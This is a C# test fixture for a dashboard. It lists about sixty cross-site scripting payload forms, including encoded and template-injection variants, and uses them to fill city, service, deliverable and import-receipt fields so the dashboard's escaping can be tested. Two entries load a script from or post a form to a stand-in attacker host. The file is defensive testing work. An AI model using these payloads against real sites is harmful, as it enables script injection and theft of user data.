using Carmen.Collector;

namespace Carmen.Tests.Dashboard;

/// <summary>Names that try to become code: each would set <c>window.__x</c> if a page took it for markup.</summary>
public static class Hostile
{
    private const string Code = "window.__x=1";

    /// <summary>Ways into an element, an attribute, a script, a style and a comment, plain and encoded.</summary>
    private static readonly string[] Forms =
    [
        "<script>{0}</script>",
        "<ScRiPt >{0}</sCrIpT>",
        "<script src=//attacker.example/x.js></script>",
        "<img src=x onerror={0}>",
        "<img src=x onerror=\"{0}\">",
        "<svg onload={0}>",
        "<svg><script>{0}</script></svg>",
        "<svg><animate onbegin={0} attributeName=x dur=1s>",
        "<body onload={0}>",
        "<iframe srcdoc=\"<script>parent.{0}</script>\">",
        "<iframe src=\"javascript:{0}\">",
        "<object data=\"javascript:{0}\">",
        "<embed src=\"javascript:{0}\">",
        "<a href=\"javascript:{0}\">x</a>",
        "<details open ontoggle={0}>",
        "<video><source onerror={0}>",
        "<input autofocus onfocus={0}>",
        "<select autofocus onfocus={0}>",
        "<marquee onstart={0}>",
        "<math><mtext><img src=x onerror={0}></mtext></math>",
        "<style>@import 'javascript:{0}';</style>",
        "<link rel=stylesheet href=javascript:{0}>",
        "<base href=\"javascript:{0}//\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">",
        "<template><img src=x onerror={0}></template>",
        "<noscript><p title=\"</noscript><img src=x onerror={0}>\">",
        "<!--><img src=x onerror={0}>-->",
        "]]><img src=x onerror={0}>",
        "</title><script>{0}</script>",
        "</textarea><script>{0}</script>",
        "</script><script>{0}</script>",
        "</style><script>{0}</script>",
        "</option></select><img src=x onerror={0}>",
        "\"><script>{0}</script>",
        "'><script>{0}</script>",
        "\" onmouseover=\"{0}\" x=\"",
        "' onfocus='{0}' autofocus='",
        "\" autofocus onfocus={0} x=\"",
        "`-{0}-`",
        "'-{0}-'",
        "\\\"-{0}//",
        "${{{0}}}",
        "{{{{{0}}}}}",
        "@{{ {0} }}",
        "<%= {0} %>",
        "javascript:{0}",
        "data:text/html,<script>{0}</script>",
        "&lt;script&gt;{0}&lt;/script&gt;",
        "&#60;script&#62;{0}&#60;/script&#62;",
        "%3Cscript%3E{0}%3C/script%3E",
        "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
        "\u2028<script>{0}</script>",
        "<x hx-get=/ hx-trigger=load hx-on:load={0}>",
        "<x data-hx-on:htmx:load=\"{0}\">",
        "<div data-hx-get=\"/\" data-hx-trigger=\"load\">",
        "<form action=//attacker.example><button autofocus>x</button></form>",
        "<p style=\"background:url(javascript:{0})\">",
        "<p class=chart data-option='{{\"title\":{{\"text\":\"<img src=x onerror={0}>\"}}}}'>",
        "＜script＞{0}＜/script＞",
        "<\u0000script>{0}</script>",
    ];

    /// <summary>Each form by itself, and behind a harmless beginning.</summary>
    public static IReadOnlyList<string> Payloads { get; } =
    [
        .. Forms
            .Concat(Forms.Take(30).Select(form => "Bulky waste " + form))
            .Select(form =>
                form.Replace("{0}", Code, StringComparison.Ordinal)
                    .Replace("{{", "{", StringComparison.Ordinal)
                    .Replace("}}", "}", StringComparison.Ordinal)
            ),
    ];

    /// <summary>The pilot with every name that a city or a coordinator writes replaced.</summary>
    public static Pilot Named(Pilot pilot, string[] words) =>
        pilot with
        {
            Cities = [.. pilot.Cities.Select((city, place) => city with { Name = words[(place + 1) % words.Length] })],
            Services = [.. pilot.Services.Select((service, place) => service with { Name = words[place % words.Length] })],
            Targets = [.. pilot.Targets.Select((target, place) => target with { Source = words[place % words.Length] })],
            WorkPackages =
            [
                .. pilot.WorkPackages.Select((package, place) => package with { Title = words[place % words.Length], Lead = words[0] }),
            ],
            Deliverables =
            [
                .. pilot.Deliverables.Select((entry, place) => entry with { Title = words[place % words.Length], Lead = words[1] }),
            ],
        };

    /// <summary>A receipt whose file, counts, guesses and warnings were written by a stranger.</summary>
    public static Import Told(Import import, string word) =>
        import with
        {
            File = word,
            Rejected = 1,
            Accepted = import.Accepted + import.Rejected - 1,
            Counts =
            [
                .. import.Counts.Where(count => count.Group != CountGroups.Rejected),
                new(CountGroups.Rejected, "date", 1),
                new("unmapped:service", word, 7),
            ],
            Guesses = [("separator", word)],
            Warnings = [word],
        };
}
